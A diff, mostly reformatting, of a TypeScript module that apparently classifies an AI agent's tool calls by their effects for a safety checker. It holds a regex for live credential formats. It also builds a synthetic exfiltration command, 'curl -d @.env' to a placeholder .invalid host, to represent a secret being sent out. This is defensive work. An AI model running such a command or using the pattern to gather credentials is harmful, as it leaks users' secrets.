@@ -42,7 +42,9 @@ export function writtenContent(call: ToolCall): string | undefined {
     }
     const edits = src['edits'];
     if (Array.isArray(edits)) {
-      const parts = edits.map((e) => (e && typeof e === 'object' ? (e as Record<string, unknown>)['new_string'] : undefined)).filter((x): x is string => typeof x === 'string');
+      const parts = edits
+        .map((e) => (e && typeof e === 'object' ? (e as Record<string, unknown>)['new_string'] : undefined))
+        .filter((x): x is string => typeof x === 'string');
       if (parts.length) return parts.join('\n');
     }
   }
@@ -53,7 +55,8 @@ export function writtenContent(call: ToolCall): string | undefined {
  * Values that are live credentials by their shape (provider token formats, private key blocks,
  * passwords inside connection URLs, KEY=value lines naming a secret).
  */
-const SECRET_VALUE = /\b(?:sk_live_[0-9A-Za-z]{8,}|rk_live_[0-9A-Za-z]{8,}|AKIA[0-9A-Z]{16}|ASIA[0-9A-Z]{16}|gh[pousr]_[0-9A-Za-z]{30,}|github_pat_[0-9A-Za-z_]{30,}|glpat-[0-9A-Za-z_-]{20,}|xox[abpr]-[0-9A-Za-z-]{10,}|sk-(?:proj-|ant-)?[0-9A-Za-z_-]{20,}|AIza[0-9A-Za-z_-]{35}|npm_[0-9A-Za-z]{36})|-----BEGIN (?:[A-Z]+ )?PRIVATE KEY-----|[a-z][a-z0-9+.-]*:\/\/[^\s:/@"]+:[^\s@/"]{3,}@|\b[A-Z0-9_]*(?:SECRET|PASSWORD|PASSWD|TOKEN|API_KEY|PRIVATE_KEY)[A-Z0-9_]*=[^\s"\\]{6,}/;
+const SECRET_VALUE =
+  /\b(?:sk_live_[0-9A-Za-z]{8,}|rk_live_[0-9A-Za-z]{8,}|AKIA[0-9A-Z]{16}|ASIA[0-9A-Z]{16}|gh[pousr]_[0-9A-Za-z]{30,}|github_pat_[0-9A-Za-z_]{30,}|glpat-[0-9A-Za-z_-]{20,}|xox[abpr]-[0-9A-Za-z-]{10,}|sk-(?:proj-|ant-)?[0-9A-Za-z_-]{20,}|AIza[0-9A-Za-z_-]{35}|npm_[0-9A-Za-z]{36})|-----BEGIN (?:[A-Z]+ )?PRIVATE KEY-----|[a-z][a-z0-9+.-]*:\/\/[^\s:/@"]+:[^\s@/"]{3,}@|\b[A-Z0-9_]*(?:SECRET|PASSWORD|PASSWD|TOKEN|API_KEY|PRIVATE_KEY)[A-Z0-9_]*=[^\s"\\]{6,}/;
 
 /** What an MCP tool call does, read from the operation's name and its usual parameters
  * (filesystem servers' write_file/read_file/..., database servers' query/execute, fetch servers). */
@@ -66,9 +69,15 @@ function mcpEffects(call: ToolCall, cache: EffectCache): Effect[] {
   const out: Effect[] = [];
   if (path) {
     const via = `MCP ${op}`;
-    if (/write|create|edit|append|put|save|upload|move|rename|copy/.test(op)) out.push(content ? { tool: 'write', path, content, via: `${via} writes ${path}` } : { tool: 'write', path, via: `${via} writes ${path}` });
+    if (/write|create|edit|append|put|save|upload|move|rename|copy/.test(op))
+      out.push(
+        content
+          ? { tool: 'write', path, content, via: `${via} writes ${path}` }
+          : { tool: 'write', path, via: `${via} writes ${path}` },
+      );
     else if (/delete|remove|unlink|rm/.test(op)) out.push({ tool: 'delete', path, via: `${via} deletes ${path}` });
-    else if (/read|get|cat|view|open|download|head|tail/.test(op)) out.push({ tool: 'read', path, via: `${via} reads ${path}` });
+    else if (/read|get|cat|view|open|download|head|tail/.test(op))
+      out.push({ tool: 'read', path, via: `${via} reads ${path}` });
     if (content && out[0]?.tool === 'write') out.push(...deriveFromWrite(path, content));
   }
   const url = str('url') ?? str('uri');
@@ -76,19 +85,39 @@ function mcpEffects(call: ToolCall, cache: EffectCache): Effect[] {
   const sql = str('sql') ?? str('query') ?? str('statement');
   if (sql) out.push({ tool: 'exec', command: `psql -c ${JSON.stringify(foldSql(sql))}`, via: `MCP ${op} runs SQL` });
   // Secrets sent to a destination outside the machine (a repository, a channel, a gist, a mail).
-  const remote = str('owner') ?? str('repo') ?? str('channel') ?? str('channel_id') ?? str('to') ?? str('recipient') ?? str('webhook_url') ?? (/gist|issue|comment|message|post|send|upload|publish|mail/.test(op) ? op : undefined);
+  const remote =
+    str('owner') ??
+    str('repo') ??
+    str('channel') ??
+    str('channel_id') ??
+    str('to') ??
+    str('recipient') ??
+    str('webhook_url') ??
+    (/gist|issue|comment|message|post|send|upload|publish|mail/.test(op) ? op : undefined);
   if (remote) {
     const text = JSON.stringify(p);
     const hit = SECRET_VALUE.exec(text);
-    if (hit) out.push({ tool: 'exec', command: `curl -d @.env https://${remote.replace(/[^\w.-]/g, '') || 'remote'}.invalid/`, via: `MCP ${op} sends a secret (${hit[0].slice(0, 12)}...) to ${remote}` });
+    if (hit)
+      out.push({
+        tool: 'exec',
+        command: `curl -d @.env https://${remote.replace(/[^\w.-]/g, '') || 'remote'}.invalid/`,
+        via: `MCP ${op} sends a secret (${hit[0].slice(0, 12)}...) to ${remote}`,
+      });
   }
   const cmd = str('command') ?? str('cmd');
-  if (cmd && /exec|run|shell|command|terminal|bash/.test(op)) out.push({ tool: 'exec', command: cmd, via: `MCP ${op} runs` }, ...cache.forCommand(cmd));
+  if (cmd && /exec|run|shell|command|terminal|bash/.test(op))
+    out.push({ tool: 'exec', command: cmd, via: `MCP ${op} runs` }, ...cache.forCommand(cmd));
   return out;
 }
 
-export function effectsOf(call: ToolCall, command: string | undefined, path: string | undefined, cache: EffectCache): Effect[] {
-  if (command !== undefined && (call.tool === 'exec' || call.tool.toLowerCase() === 'exec')) return cache.forCommand(command);
+export function effectsOf(
+  call: ToolCall,
+  command: string | undefined,
+  path: string | undefined,
+  cache: EffectCache,
+): Effect[] {
+  if (command !== undefined && (call.tool === 'exec' || call.tool.toLowerCase() === 'exec'))
+    return cache.forCommand(command);
   if (/^mcp(?:$|[_:-])/i.test(call.tool) && call.tool !== 'mcp-destructive') return mcpEffects(call, cache);
   if (path !== undefined && (call.tool === 'write' || call.tool === 'edit')) {
     const content = writtenContent(call);
